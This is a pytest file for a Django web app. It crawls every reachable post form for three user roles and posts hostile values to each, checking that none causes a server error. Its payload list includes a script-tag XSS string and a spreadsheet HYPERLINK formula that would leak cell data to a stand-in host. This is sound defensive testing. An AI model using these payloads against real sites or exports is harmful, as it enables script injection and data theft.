"""Every HTML form a visitor, a provider and an organization administrator can reach, posted
with hostile values (empty, 5,000 characters, impossible dates, 20-digit and negative numbers,
NUL bytes, markup, formulas): each answers with a form error or a success, never a 5xx.

The forms are found, not listed: each role opens every page of the URL conf that takes no
argument, follows the links on the pages it gets (staying out of /admin/, /staff/ and the
API), and collects every ``<form method="post">`` with its field names. A new form linked from
anywhere a person can go is covered without touching this file.
"""

from collections import deque
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from accounts import roles

pytestmark = pytest.mark.django_db

HOSTILE = {
    "empty": "",
    "5,000 characters": "x" * 5000,
    "impossible date": "2023-02-30",
    "20-digit number": "99999999999999999999",
    "negative 20-digit number": "-99999999999999999999",
    "negative number": "-1",
    "NUL byte": "a\x00b",
    "markup": '<script>alert("x")</script><b>bold</b>',
    "formula": '=HYPERLINK("http://x/?"&B2,"open")',
}
OUT_OF_BOUNDS = ("/admin/", "/staff/", "/api/", "/static/", "/media/", "/accounts/logout/")
# Forms that end the session under test or need a second browser step, never reached by hostile
# input in a harmful way but not worth posting: signing out.
SKIP_ACTIONS = ("/accounts/logout/",)
MAX_PAGES = 160


class _Forms(HTMLParser):
    """The post forms of a page (action, field names with a sample value) and its links."""

    def __init__(self):
        super().__init__()
        self.forms: list[dict] = []
        self.links: list[str] = []
        self._form = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "a" and attrs.get("href"):
            self.links.append(attrs["href"])
        elif tag == "form":
            if (attrs.get("method") or "get").lower() == "post":
                self._form = {"action": attrs.get("action"), "fields": {}, "hidden": {}}
        elif self._form is not None and tag in ("input", "select", "textarea", "button"):
            name = attrs.get("name")
            if not name:
                return
            kind = (attrs.get("type") or "").lower()
            if tag == "input" and kind == "hidden" or name == "csrfmiddlewaretoken":
                self._form["hidden"][name] = attrs.get("value", "")
            elif tag == "button" or kind == "submit":
                self._form["hidden"].setdefault(name, attrs.get("value", ""))
            elif kind == "file":
                return  # uploads have their own tests (documents, rates, complaints)
            else:
                self._form["fields"][name] = kind or tag

    def handle_endtag(self, tag):
        if tag == "form" and self._form is not None:
            self.forms.append(self._form)
            self._form = None


def _argument_free_pages() -> list[str]:
    """Every URL of the URL conf that takes no argument (the crawl's starting points)."""
    paths = []

    def walk(patterns, prefix=""):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, prefix + str(pattern.pattern))
            elif isinstance(pattern, URLPattern) and not pattern.pattern.converters:
                route = prefix + str(pattern.pattern)
                if "<" in route or "(" in route or "^" in route or "$" in route:
                    continue
                paths.append("/" + route)

    walk(get_resolver().url_patterns)
    return [path for path in paths if not path.startswith(OUT_OF_BOUNDS)]


def _in_bounds(path: str) -> bool:
    return path.startswith("/") and not path.startswith(OUT_OF_BOUNDS)


def _crawl(client: Client) -> dict[tuple, dict]:
    """{(action path, field names): form} for every post form reachable by ``client``."""
    queue = deque(_argument_free_pages() + [reverse("core:dashboard")])
    seen: set[str] = set()
    forms: dict[tuple, dict] = {}
    while queue and len(seen) < MAX_PAGES:
        path = queue.popleft()
        if path in seen:
            continue
        seen.add(path)
        response = client.get(path)
        assert response.status_code < 500, f"GET {path} answered {response.status_code}"
        if response.status_code != 200 or "text/html" not in response.get("Content-Type", ""):
            continue
        parser = _Forms()
        parser.feed(response.content.decode())
        for form in parser.forms:
            action = urlsplit(urljoin(path, form["action"] or path))
            action_path = action.path + (f"?{action.query}" if action.query else "")
            if not _in_bounds(action.path) or action.path.startswith(SKIP_ACTIONS):
                continue
            forms.setdefault((action_path, tuple(sorted(form["fields"]))), form)
        for href in parser.links:
            link = urlsplit(urljoin(path, href))
            if link.netloc in ("", "testserver") and _in_bounds(link.path):
                target = link.path + (f"?{link.query}" if link.query else "")
                if target not in seen and not link.path.endswith((".csv", ".xlsx", ".pdf")):
                    queue.append(target)
    return forms


@pytest.fixture
def world(make_user):
    """Something behind every door: a provider with a renewable certification and a renewal
    under way, an organization with a vehicle and an open rate season, an open awards period."""
    from providers import services as provider_services
    from tests.information.factories import NominationPeriodFactory
    from tests.providers.factories import make_certification, record_ce
    from tests.rates.factories import RateYearFactory, approved_schedule
    from tests.vehicles.factories import OrganizationFactory, VehicleFactory

    provider_user = make_user("hostile-provider@example.com", role=roles.PROVIDER)
    certification = make_certification(expires_in=60)
    certification.provider.user = provider_user
    certification.provider.save(update_fields=["user"])
    record_ce(certification.provider, hours=2)
    provider_services.renewal_start(certification=certification, user=provider_user)

    admin_user = make_user("hostile-orgadmin@example.com", role=roles.ORGANIZATION_ADMINISTRATOR)
    organization = OrganizationFactory(administrators=[admin_user])
    VehicleFactory(organization=organization)
    year = timezone.localdate().year
    RateYearFactory(year=year)
    approved_schedule(organization, year - 1, {"bls-emergency": "500.00"})
    NominationPeriodFactory()
    return {"provider": provider_user, "organization administrator": admin_user}


def _post_hostile(client: Client, action: str, form: dict) -> list[str]:
    failures = []
    for label, value in HOSTILE.items():
        data = {**form["hidden"], **dict.fromkeys(form["fields"], value)}
        try:
            response = client.post(action, data)
        except Exception as error:  # noqa: BLE001 - the test client re-raises the view's error
            failures.append(f"POST {action} with {label}: {error!r}")
            continue
        if response.status_code >= 500:
            failures.append(f"POST {action} with {label}: {response.status_code}")
    return failures


@pytest.mark.parametrize("role", ["anonymous", "provider", "organization administrator"])
def test_every_reachable_form_refuses_hostile_input_without_a_server_error(
    role, world, generous_throttles
):
    client = Client()
    if role != "anonymous":
        client.force_login(world[role])
    forms = _crawl(client)
    actions = {action for action, _ in forms}
    # The crawl reached the forms it should (a sample; every other one it finds is posted too).
    expected = {
        "anonymous": [reverse("complaints:file"), reverse("account_signup")],
        "provider": [reverse("providers:ce"), reverse("organizations:link")],
        "organization administrator": [reverse("vehicles:register")],
    }[role]
    assert set(expected) <= {action.split("?")[0] for action in actions}, sorted(actions)
    failures = []
    for (action, _fields), form in forms.items():
        failures += _post_hostile(client, action, form)
    assert not failures, "\n".join(failures)


@pytest.fixture
def generous_throttles(monkeypatch):
    # The complaint and nomination throttles would answer 429 after a few posts from one
    # address: not a server error, but it would stop the forms behind them being judged.
    from complaints import views as complaint_views
    from information import views as information_views

    monkeypatch.setattr(complaint_views, "RATE_LIMIT", 10**6)
    monkeypatch.setattr(information_views, "NOMINATION_RATE_LIMIT", 10**6)
